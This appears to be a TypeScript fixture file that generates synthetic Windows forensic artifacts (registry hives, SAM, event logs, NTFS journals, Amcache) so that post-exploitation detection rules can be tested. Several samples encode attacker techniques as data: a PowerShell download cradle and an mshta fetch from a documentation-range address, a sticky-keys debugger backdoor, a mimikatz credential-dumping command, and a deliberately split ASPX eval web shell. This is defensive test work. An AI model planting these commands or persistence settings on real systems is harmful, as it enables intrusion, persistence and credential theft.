import { certificateRequestFor, der, pem } from './certificate.ts'
import { Chunk, evtxFile, evtxOfChunks, type EvtxRecord, unlink } from './evtx.ts'
import { mftFile, usnFile } from './ntfs.ts'
import { type SamAccount, samTree } from './sam.ts'
import { hiveFile, type HiveTree, type HiveValue } from './regf.ts'

const time = '2021-03-03T05:02:10.1234567Z'
const inBase64 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const encoded = inBase64('Write-Output "a sample, nothing to run"')
/** Code that fetches code, from an address that is nobody's. */
const cradle = inBase64('iex (iwr http://192.0.2.10/a -UseBasicParsing).Content')

const system = (tree: HiveTree): Buffer =>
  hiveFile({ Select: { values: { Current: 1, Default: 1 } }, ...tree }, { name: 'SYSTEM', time })
const software = (tree: HiveTree): Buffer => hiveFile(tree, { name: '\\SystemRoot\\System32\\Config\\SOFTWARE', time })

const service = (image: string, more: Readonly<Record<string, HiveValue>> = {}): HiveTree => ({
  'ControlSet001\\Services\\Sample': {
    values: {
      ImagePath: { type: 'REG_EXPAND_SZ', data: image },
      Start: 2,
      Type: 16,
      ObjectName: 'LocalSystem',
      ...more,
    },
  },
})
/** Several services, one for each program. */
const services = (...images: readonly string[]): HiveTree =>
  Object.fromEntries(
    images.map((image, i) => [
      `ControlSet001\\Services\\Sample${i}`,
      { values: { ImagePath: { type: 'REG_EXPAND_SZ', data: image }, Start: 2, Type: 16 } },
    ]),
  )
/** A library that a service has svchost load. */
const hosted = (library: string): HiveTree => ({
  ...service('%SystemRoot%\\system32\\svchost.exe -k netsvcs'),
  'ControlSet001\\Services\\Sample\\Parameters': {
    values: { ServiceDll: { type: 'REG_EXPAND_SZ', data: library } },
  },
})
/** A service that a wrapper (nssm) runs. */
const wrapped = (application: string, parameters: string): HiveTree => ({
  ...service('C:\\Program Files\\nssm\\nssm.exe'),
  'ControlSet001\\Services\\Sample\\Parameters': {
    values: { Application: application, AppParameters: parameters },
  },
})
const key = (path: string, values: Readonly<Record<string, HiveValue>>): HiveTree => ({ [path]: { values } })
const nt = 'Microsoft\\Windows NT\\CurrentVersion'
const lsa = (...packages: readonly string[]): HiveTree =>
  key('ControlSet001\\Control\\Lsa', { 'Notification Packages': packages })
const sam = (...accounts: readonly SamAccount[]): Buffer =>
  hiveFile(
    samTree([
      { name: 'Administrator', rid: 500, administrator: true },
      { name: 'Guest', rid: 501, disabled: true },
      ...accounts,
    ]),
    { name: '\\SystemRoot\\System32\\Config\\SAM', time },
  )
const ofUser = (tree: HiveTree): Buffer => hiveFile(tree, { name: '\\??\\C:\\Users\\j.doe\\ntuser.dat', time })
const scriptlet = (url: string): HiveTree =>
  key('Software\\Classes\\CLSID\\{0F0B6E2A-9C1D-4E57-8A34-6D2B7F19C0E5}\\InprocServer32', {
    '': 'C:\\Windows\\System32\\scrobj.dll',
    ScriptletURL: url,
  })
const run = (command: string): HiveTree => ({
  'Microsoft\\Windows\\CurrentVersion\\Run': { values: { Sample: command } },
})
const debuggerOf = (program: string, by: string): HiveTree => ({
  [`Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\${program}`]: { values: { Debugger: by } },
})
const wdigest = (value: number): HiveTree => ({
  'ControlSet001\\Control\\SecurityProviders\\WDigest': { values: { UseLogonCredential: value } },
})
const exclusion = (path: string): HiveTree => ({
  'Microsoft\\Windows Defender\\Exclusions\\Paths': { values: { [path]: 0 } },
})
const userList = (name: string, shown: number): HiveTree => ({
  'Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList': { values: { [name]: shown } },
})

const SD = { type: 'REG_BINARY', data: Buffer.from('0100048000000000', 'hex') } as const

/** Tasks as Windows before 10 keeps them: none has a descriptor. */
function oldTaskCache(): HiveTree {
  const cache = `${nt}\\Schedule\\TaskCache`
  const ids = ['{00000000-0000-0000-0000-000000000001}', '{00000000-0000-0000-0000-000000000002}']
  return Object.fromEntries(
    ids.flatMap((id, i) => [
      [`${cache}\\Tasks\\${id}`, { values: { Path: `\\Sample${i}` } }],
      [`${cache}\\Tree\\Sample${i}`, { values: { Id: id, Index: 3 } }],
    ]),
  )
}

/** A task as the registry knows it: its actions in the form of version 3, its place in the tree with or without a descriptor. */
function taskCache(descriptor: boolean, index = 3): HiveTree {
  const id = '{6F2C19B4-0D3A-4E51-9C7E-2B8A54D1E0F7}'
  const text = (value: string): Buffer => {
    const data = Buffer.from(value, 'utf16le')
    const size = Buffer.alloc(4)
    size.writeUInt32LE(data.length)
    return Buffer.concat([size, data])
  }
  const actions = Buffer.concat([
    Buffer.from([3, 0]),
    text('Author'),
    Buffer.from([0x66, 0x66]),
    text(''),
    text('C:\\Windows\\System32\\notepad.exe'),
    text('/a'),
    text(''),
    Buffer.from([0, 0]),
  ])
  const cache = 'Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache'
  return {
    [`${cache}\\Tasks\\${id}`]: {
      values: { Path: '\\Sample', Actions: { type: 'REG_BINARY', data: actions }, Author: 'CONTOSO\\Administrator' },
    },
    [`${cache}\\Tree\\Sample`]: {
      values: {
        Id: id,
        Index: index,
        ...(descriptor ? { SD } : {}),
      },
    },
    [`${cache}\\Tree\\Other`]: { values: { Id: '{00000000-0000-0000-0000-000000000001}', Index: 3, SD } },
  }
}

// In two parts, so that no virus scanner takes this file for a page that runs.
const page = [
  '<script language="JScript" run',
  'at="server">function Page_Load(){/* a sample */ ev',
  'al(Request["none"],"unsafe")}</script>',
].join('')
const mft = (content: string): Buffer =>
  mftFile([{ path: 'C:\\inetpub\\wwwroot\\aspnet_client\\sample.aspx', created: time, resident: content }])

const record = (recordId: number, more: Partial<EvtxRecord> = {}): EvtxRecord => ({
  channel: 'Security',
  provider: 'Microsoft-Windows-Security-Auditing',
  eventId: 4624,
  computer: 'MAIL01.contoso.example',
  recordId,
  time: Date.parse('2021-03-03T05:00:00Z') + recordId * 1000,
  data: [
    ['TargetUserName', 'Administrator'],
    ['LogonType', '3'],
  ],
  ...more,
})

const amcache = (path: string): Buffer => {
  const name = path.slice(path.lastIndexOf('\\') + 1)
  return hiveFile(
    {
      [`Root\\InventoryApplicationFile\\${name}|1a2b3c4d5e6f7081`]: {
        values: { LowerCaseLongPath: path, Name: name, FileId: `0000${'ab'.repeat(20)}`, Publisher: '' },
      },
    },
    { name: 'Amcache.hve', root: '{11517B7C-E79D-4E20-961B-75A811715ADD}', time },
  )
}
/** A log out of which the middle record was taken, as eventlogedit does. */
function unlinked(): Buffer {
  const chunk = new Chunk()
  for (const id of [1, 2, 3]) chunk.add(record(id))
  return evtxOfChunks([unlink(chunk.finish(), 2)])
}

const journal = (path: string): Buffer =>
  usnFile([
    { path, time: '2021-03-03T05:02:10Z', reason: ['FILE_CREATE'] },
    { path, time: '2021-03-03T05:02:11Z', reason: ['FILE_CREATE', 'DATA_EXTEND', 'CLOSE'] },
  ])

/** A page comes and goes a day later; the records of its folders name where. */
const comesAndGoes = (path: string, gone: string): Buffer => {
  const names = path.split('\\')
  const folders = names.slice(1, -1).map((_, i) => names.slice(0, i + 2).join('\\'))
  return usnFile([
    ...folders.map((folder) => ({
      path: folder,
      time: '2021-03-01T05:02:10Z',
      reason: ['FILE_CREATE'] as const,
      directory: true,
      attributes: ['directory'] as const,
    })),
    { path, time: '2021-03-03T05:02:10Z', reason: ['FILE_CREATE'] },
    { path, time: '2021-03-03T05:02:11Z', reason: ['FILE_CREATE', 'DATA_EXTEND', 'CLOSE'] },
    { path, time: gone, reason: ['FILE_DELETE', 'CLOSE'] },
  ])
}

const requestFor = (name: string): Buffer => Buffer.from(pem(certificateRequestFor(der(12, name))))

/** Every binary sample of the packs, by its path below `packs/`; binary-samples.test.ts holds the files to these. */
export const binarySamples: Readonly<Record<string, () => Buffer>> = Object.fromEntries(
  (
    [
      ['service-runs-code', 'fire/SYSTEM', () => system(service(`%COMSPEC% /b /c start powershell -enc ${encoded}`))],
      ['service-runs-code', 'fire/encoded', () => system(service(`powershell.exe -nop -w hidden -e ${cradle}`))],
      ['service-runs-code', 'fire/pipe', () => system(service('cmd.exe /c echo sample > \\\\.\\pipe\\sample'))],
      [
        'service-runs-code',
        'fire/output',
        () => system(service('%COMSPEC% /Q /c dir ^> \\\\127.0.0.1\\C$\\__o 2^>^&1')),
      ],
      [
        'service-runs-code',
        'fire/failure',
        () => system(service('C:\\Program Files\\Vendor\\a.exe', { FailureCommand: 'mshta http://192.0.2.10/a.hta' })),
      ],
      ['service-runs-code', 'fire/wrapped', () => system(wrapped('powershell.exe', `-enc ${cradle}`))],
      [
        'service-runs-code',
        'quiet/SYSTEM',
        () =>
          system(
            services(
              '"C:\\Program Files\\Vendor\\agent.exe" /service',
              'C:\\Program Files\\nssm\\nssm.exe',
              'cmd.exe /c "C:\\Program Files\\Vendor\\start.bat"',
              'C:\\oracle\\product\\19.0.0\\bin\\oracle.exe ORCL',
              '"C:\\Program Files\\Java\\bin\\java.exe" -jar "C:\\Program Files\\Vendor\\server.jar"',
            ),
          ),
      ],
      [
        'service-runs-code',
        'quiet/wrapped',
        () => system(wrapped('cmd.exe', '/c "C:\\Program Files\\Vendor\\run.bat"')),
      ],
      ['service-is-shell', 'fire/SYSTEM', () => system(service('cmd.exe /c "C:\\Scripts\\start.bat"'))],
      [
        'service-is-shell',
        'fire/powershell',
        () =>
          system(service('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File C:\\Scripts\\a.ps1')),
      ],
      [
        'service-is-shell',
        'quiet/SYSTEM',
        () => system(services('C:\\Program Files\\nssm\\nssm.exe', 'C:\\Program Files\\Vendor\\cmdagent.exe /c')),
      ],
      ['service-odd-place', 'fire/SYSTEM', () => system(service('C:\\Users\\Public\\svc.exe'))],
      ['service-odd-place', 'fire/library', () => system(hosted('C:\\ProgramData\\svc.dll'))],
      ['service-odd-place', 'fire/temporary', () => system(service('"C:\\Windows\\Temp\\svc.exe" -k'))],
      ['service-odd-place', 'fire/wrapped', () => system(wrapped('C:\\PerfLogs\\a.exe', ''))],
      [
        'service-odd-place',
        'quiet/SYSTEM',
        () =>
          system(
            services(
              'C:\\Windows\\system32\\svchost.exe -k netsvcs',
              'C:\\ProgramData\\CentraStage\\CagService.exe',
              '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2101.9-0\\MsMpEng.exe"',
              '"C:\\ProgramData\\Acronis\\Agent.Net\\agent.exe" --run',
              'C:\\inetpub\\wwwroot\\shop\\bin\\worker.exe',
            ),
          ),
      ],
      [
        'service-odd-place',
        'quiet/driver',
        () => system(service('\\??\\C:\\Windows\\Temp\\cpu\\cpu_x64.sys', { Type: 1, Start: 3 })),
      ],
      [
        'service-temporary-place',
        'fire/SYSTEM',
        () => system(service('\\??\\C:\\Windows\\Temp\\cpu\\cpu_x64.sys', { Type: 1, Start: 3 })),
      ],
      [
        'service-temporary-place',
        'quiet/SYSTEM',
        () => system(service('C:\\ProgramData\\CentraStage\\CagService.exe')),
      ],
      ['service-impersonates', 'fire/SYSTEM', () => system(service('C:\\ProgramData\\Vendor\\svchost.exe -k netsvcs'))],
      ['service-impersonates', 'fire/nearly', () => system(service('C:\\Windows\\System32\\svch0st.exe'))],
      [
        'service-impersonates',
        'quiet/SYSTEM',
        () =>
          system(
            services(
              'C:\\Windows\\system32\\svchost.exe -k netsvcs',
              '%SystemRoot%\\System32\\spoolsv.exe',
              'system32\\svchost.exe -k x',
              '"C:\\Program Files\\Vendor\\vendorservices.exe"',
            ),
          ),
      ],
      ['startup-runs-code', 'fire/SOFTWARE', () => software(run(`powershell -w hidden -enc ${cradle}`))],
      ['startup-runs-code', 'quiet/SOFTWARE', () => software(run('"C:\\Program Files\\Vendor\\tray.exe" /min'))],
      ['startup-encoded-command', 'fire/SOFTWARE', () => software(run(`powershell -w hidden -enc ${encoded}`))],
      ['startup-encoded-command', 'quiet/SOFTWARE', () => software(run('powershell -File C:\\Scripts\\logon.ps1'))],
      ['startup-odd-place', 'fire/SOFTWARE', () => software(run('C:\\Users\\Public\\tray.exe'))],
      [
        'startup-odd-place',
        'fire/helper',
        () => software(key('Microsoft\\Netsh', { sample: 'C:\\ProgramData\\a.dll' })),
      ],
      [
        'startup-odd-place',
        'fire/monitor',
        () => system(key('ControlSet001\\Control\\Print\\Monitors\\Sample', { Driver: 'C:\\PerfLogs\\a.dll' })),
      ],
      [
        'startup-odd-place',
        'quiet/SOFTWARE',
        () =>
          software({
            ...run('"C:\\Program Files\\Vendor\\tray.exe" /min'),
            ...key('Microsoft\\Netsh', { 4: 'authfwcfg.dll' }),
          }),
      ],
      [
        'startup-odd-place',
        'quiet/monitor',
        () => system(key('ControlSet001\\Control\\Print\\Monitors\\Sample', { Driver: 'pdfmon.dll' })),
      ],
      [
        'startup-temporary-place',
        'fire/SOFTWARE',
        () => software(run('C:\\Users\\j.doe\\AppData\\Local\\Vendor\\tray.exe')),
      ],
      [
        'startup-temporary-place',
        'quiet/SOFTWARE',
        () => software(run('"C:\\Users\\j.doe\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background')),
      ],
      ['logon-screen-backdoor', 'fire/SOFTWARE', () => software(debuggerOf('sethc.exe', 'cmd.exe'))],
      [
        'logon-screen-backdoor',
        'quiet/SOFTWARE',
        () => software(debuggerOf('vendor.exe', 'C:\\Tools\\vsjitdebugger.exe')),
      ],
      [
        'logon-screen-backdoor',
        'quiet/off',
        () => software(debuggerOf('sethc.exe', 'C:\\Windows\\System32\\systray.exe')),
      ],
      [
        'debugger-runs-shell',
        'fire/SOFTWARE',
        () => software(debuggerOf('notepad.exe', 'powershell.exe -File C:\\x.ps1')),
      ],
      [
        'debugger-runs-shell',
        'fire/exit',
        () =>
          software(
            key(`${nt}\\SilentProcessExit\\notepad.exe`, {
              MonitorProcess: 'C:\\Users\\Public\\a.exe',
              ReportingMode: 1,
            }),
          ),
      ],
      [
        'debugger-runs-shell',
        'quiet/SOFTWARE',
        () =>
          software({
            ...debuggerOf('taskmgr.exe', '"C:\\Tools\\procexp64.exe"'),
            ...debuggerOf('sethc.exe', 'cmd.exe'),
          }),
      ],
      [
        'silent-process-exit',
        'fire/SOFTWARE',
        () =>
          software(
            key(`${nt}\\SilentProcessExit\\notepad.exe`, {
              MonitorProcess: 'C:\\Tools\\procdump.exe -ma',
              ReportingMode: 1,
            }),
          ),
      ],
      [
        'silent-process-exit',
        'quiet/SOFTWARE',
        () =>
          software(key(`${nt}\\SilentProcessExit\\notepad.exe`, { ReportingMode: 2, LocalDumpFolder: 'C:\\Dumps' })),
      ],
      ['com-class-scriptlet', 'fire/NTUSER.DAT', () => ofUser(scriptlet('http://192.0.2.10/a.sct'))],
      [
        'com-class-scriptlet',
        'quiet/NTUSER.DAT',
        () =>
          ofUser(
            key('Software\\Classes\\CLSID\\{0F0B6E2A-9C1D-4E57-8A34-6D2B7F19C0E5}\\InprocServer32', {
              '': 'C:\\Program Files\\Vendor\\shell.dll',
            }),
          ),
      ],
      ['lsa-package-foreign', 'fire/SYSTEM', () => system(lsa('rassfm', 'scecli', 'sample'))],
      ['lsa-package-foreign', 'quiet/SYSTEM', () => system(lsa('rassfm', 'scecli'))],
      ['lsa-package-foreign', 'quiet/openssh', () => system(lsa('scecli', 'SshdPinAuthLsa'))],
      [
        'lsa-package-foreign',
        'quiet/packages',
        () =>
          system(
            key('ControlSet001\\Control\\Lsa', { 'Security Packages': ['""'], 'Authentication Packages': ['msv1_0'] }),
          ),
      ],
      [
        'lsa-package-foreign',
        'quiet/providers',
        () => system(key('ControlSet001\\Control\\SecurityProviders', { SecurityProviders: 'credssp.dll' })),
      ],
      [
        'library-in-every-process',
        'fire/SYSTEM',
        () =>
          system(
            key('ControlSet001\\Control\\Session Manager\\AppCertDlls', {
              Sample: 'C:\\Windows\\System32\\sample.dll',
            }),
          ),
      ],
      [
        'library-in-every-process',
        'fire/SOFTWARE',
        () =>
          software(key(`${nt}\\Windows`, { AppInit_DLLs: 'C:\\Windows\\System32\\sample.dll', LoadAppInit_DLLs: 1 })),
      ],
      [
        'library-in-every-process',
        'quiet/SOFTWARE',
        () => software(key(`${nt}\\Windows`, { AppInit_DLLs: '', LoadAppInit_DLLs: 0 })),
      ],
      [
        'winlogon-changed',
        'fire/SOFTWARE',
        () =>
          software(
            key(`${nt}\\Winlogon`, {
              Userinit: 'C:\\Windows\\system32\\userinit.exe,C:\\Windows\\System32\\sample.exe',
              Shell: 'explorer.exe',
            }),
          ),
      ],
      [
        'winlogon-changed',
        'quiet/SOFTWARE',
        () =>
          software(key(`${nt}\\Winlogon`, { Userinit: 'C:\\Windows\\system32\\userinit.exe,', Shell: 'explorer.exe' })),
      ],
      [
        'winlogon-changed',
        'quiet/core',
        () =>
          software({
            ...key(`${nt}\\Winlogon`, {
              Userinit: 'C:\\Windows\\system32\\userinit.exe',
              Shell: 'cmd.exe /c "cd /d "%USERPROFILE%" & start cmd.exe /k runonce.exe /AlternateShellStartup"',
            }),
            ...key(`${nt}\\Winlogon\\AlternateShells\\AvailableShells`, { 90000: 'explorer.exe' }),
          }),
      ],
      [
        'port-proxy',
        'fire/SYSTEM',
        () => system(key('ControlSet001\\Services\\PortProxy\\v4tov4\\tcp', { '0.0.0.0/8443': '10.1.2.40/3389' })),
      ],
      [
        'port-proxy',
        'quiet/SYSTEM',
        () => system(key('ControlSet001\\Services\\Tcpip\\Parameters', { Hostname: 'MAIL01' })),
      ],
      ['event-log-mini-nt', 'fire/SYSTEM', () => system(key('ControlSet001\\Control\\MiniNt', { Sample: 1 }))],
      [
        'event-log-mini-nt',
        'quiet/SYSTEM',
        () => system(key('ControlSet001\\Services\\Tcpip\\Parameters', { Hostname: 'MAIL01' })),
      ],
      [
        'startup-steals-passwords',
        'fire/SOFTWARE',
        () => software(run('C:\\x\\m.exe sekurlsa' + '::logonpasswords exit')),
      ],
      ['startup-steals-passwords', 'quiet/SOFTWARE', () => software(run('C:\\Program Files\\Vendor\\agent.exe'))],
      [
        'event-log-off',
        'fire/service',
        () =>
          system({
            'ControlSet001\\Services\\EventLog': {
              values: {
                ImagePath: '%SystemRoot%\\System32\\svchost.exe -k LocalServiceNetworkRestricted',
                Start: 4,
                Type: 32,
              },
            },
          }),
      ],
      [
        'event-log-off',
        'fire/session',
        () => system(key('ControlSet001\\Control\\WMI\\Autologger\\EventLog-Security', { Start: 0 })),
      ],
      [
        'event-log-off',
        'quiet/SYSTEM',
        () =>
          system({
            ...key('ControlSet001\\Control\\WMI\\Autologger\\EventLog-Security', { Start: 1 }),
            'ControlSet001\\Services\\EventLog': {
              values: { ImagePath: '%SystemRoot%\\System32\\svchost.exe', Start: 2, Type: 32 },
            },
          }),
      ],
      ['wdigest-on', 'fire/SYSTEM', () => system(wdigest(1))],
      ['wdigest-on', 'quiet/SYSTEM', () => system(wdigest(0))],
      ['defender-exclusion-odd', 'fire/SOFTWARE', () => software(exclusion('C:\\inetpub\\wwwroot'))],
      ['defender-exclusion-odd', 'fire/disk', () => software(exclusion('C:\\'))],
      [
        'defender-exclusion-odd',
        'quiet/SOFTWARE',
        () => software(exclusion('C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox')),
      ],
      [
        'defender-exclusion-odd',
        'quiet/microsoft',
        () =>
          software({
            'Microsoft\\Windows Defender\\Exclusions\\Paths': {
              values: {
                'C:\\inetpub\\temp\\IIS Temporary Compressed Files': 0,
                'C:\\inetpub\\logs\\LogFiles': 0,
                'C:\\Windows\\System32\\inetsrv': 0,
                'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files': 0,
                'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB': 0,
                'E:\\': 0,
              },
            },
            'Microsoft\\Windows Defender\\Exclusions\\Processes': {
              values: {
                'C:\\Windows\\System32\\inetsrv\\w3wp.exe': 0,
                'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe': 0,
                'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\EdgeTransport.exe': 0,
              },
            },
            'Microsoft\\Windows Defender\\Exclusions\\Extensions': { values: { edb: 0, log: 0, config: 0, jsl: 0 } },
          }),
      ],
      ['account-hidden', 'fire/SOFTWARE', () => software(userList('support', 0))],
      ['account-hidden', 'quiet/SOFTWARE', () => software(userList('support', 1))],
      ['account-like-machine', 'fire/SAM', () => sam({ name: 'support$', rid: 1001 })],
      ['account-like-machine', 'quiet/SAM', () => sam({ name: 'support', rid: 1001 })],
      ['account-borrows-rights', 'fire/SAM', () => sam({ name: 'visitor', rid: 1001, bears: 500 })],
      ['account-borrows-rights', 'quiet/SAM', () => sam({ name: 'visitor', rid: 1001 })],
      ['account-without-name', 'fire/SAM', () => sam({ name: 'visitor', rid: 1001, unlisted: true })],
      ['account-without-name', 'quiet/SAM', () => sam({ name: 'visitor', rid: 1001 })],
      ['account-administrator', 'fire/SAM', () => sam({ name: 'visitor', rid: 1001, administrator: true })],
      [
        'account-administrator',
        'quiet/SAM',
        () => sam({ name: 'visitor', rid: 1001 }, { name: 'old', rid: 1002, administrator: true, disabled: true }),
      ],
      ['task-hidden-from-list', 'fire/SOFTWARE', () => software(taskCache(false))],
      ['task-hidden-from-list', 'fire/zero', () => software(taskCache(true, 0))],
      ['task-hidden-from-list', 'quiet/SOFTWARE', () => software(taskCache(true))],
      ['task-hidden-from-list', 'quiet/before-10', () => software(oldTaskCache())],
      [
        'web-config-library',
        'fire/SYSTEM',
        () =>
          system(
            key('ControlSet001\\Control\\Session Manager\\Environment', {
              COR_PROFILER_PATH: 'C:\\Users\\Public\\p.dll',
            }),
          ),
      ],
      [
        'web-config-library',
        'quiet/SYSTEM',
        () =>
          system(
            key('ControlSet001\\Control\\Session Manager\\Environment', {
              COR_PROFILER_PATH: 'C:\\Program Files\\Vendor\\profiler.dll',
            }),
          ),
      ],
      ['resident-script', 'fire/$MFT', () => mft(page)],
      ['resident-script', 'quiet/$MFT', () => mft('<html><body>a sample, nothing to run</body></html>')],
      ['event-record-removed', 'fire/Security.evtx', unlinked],
      ['event-record-removed', 'quiet/Security.evtx', () => evtxFile([record(1), record(2), record(3)])],
      ['page-made-somewhere', 'fire/$J', () => journal('C:\\inetpub\\wwwroot\\aspnet_client\\sample.aspx')],
      [
        'page-made-somewhere',
        'quiet/an-update/$J',
        () => journal('C:\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx'),
      ],
      ['page-made-somewhere', 'quiet/$J', () => journal('C:\\inetpub\\wwwroot\\aspnet_client\\sample.log')],
      [
        'page-short-lived',
        'fire/$J',
        () => comesAndGoes('C:\\inetpub\\wwwroot\\aspnet_client\\sample.aspx', '2021-03-04T01:00:00Z'),
      ],
      [
        'page-short-lived',
        'fire/front-end/$J',
        () => comesAndGoes('C:\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\sample.aspx', '2021-03-03T06:00:00Z'),
      ],
      [
        'page-short-lived',
        'quiet/$J',
        () => comesAndGoes('C:\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx', '2021-03-03T06:00:00Z'),
      ],
      [
        'page-short-lived',
        'quiet/much-later/$J',
        () => comesAndGoes('C:\\inetpub\\wwwroot\\aspnet_client\\sample.aspx', '2021-03-20T01:00:00Z'),
      ],
      [
        'certificate-request-script',
        'fire/sample.aspx.req',
        () => requestFor('<script run' + 'at="server">/* a sample */</script>'),
      ],
      ['certificate-request-script', 'quiet/mail.req', () => requestFor('mail.contoso.example')],
      ['program-for-intruders', 'fire/Amcache.hve', () => amcache('c:\\perflogs\\mimikatz.exe')],
      ['program-for-intruders', 'fire/tunnel', () => amcache('c:\\users\\public\\revsocks.exe')],
      ['program-for-intruders', 'quiet/Amcache.hve', () => amcache('c:\\perflogs\\setup.exe')],
      ['program-for-intruders', 'quiet/support', () => amcache('c:\\tools\\procdump64.exe')],
      ['program-of-both', 'fire/Amcache.hve', () => amcache('c:\\tools\\procdump64.exe')],
      ['program-of-both', 'fire/remote', () => amcache('c:\\program files\\mesh agent\\meshagent.exe')],
      ['program-of-both', 'quiet/Amcache.hve', () => amcache('c:\\program files\\vendor\\dump.exe')],
      ['program-in-web-root', 'fire/Amcache.hve', () => amcache('c:\\inetpub\\wwwroot\\aspnet_client\\a.exe')],
      ['program-in-web-root', 'quiet/Amcache.hve', () => amcache('c:\\inetpub\\wwwroot\\shop\\bin\\worker.exe')],
      ['program-odd-place', 'fire/Amcache.hve', () => amcache('c:\\perflogs\\setup.exe')],
      ['program-odd-place', 'quiet/Amcache.hve', () => amcache('c:\\program files\\vendor\\setup.exe')],
    ] as const
  ).map(([rule, path, make]) => [`post-exploitation/samples/rules/${rule}/${path}`, make]),
)
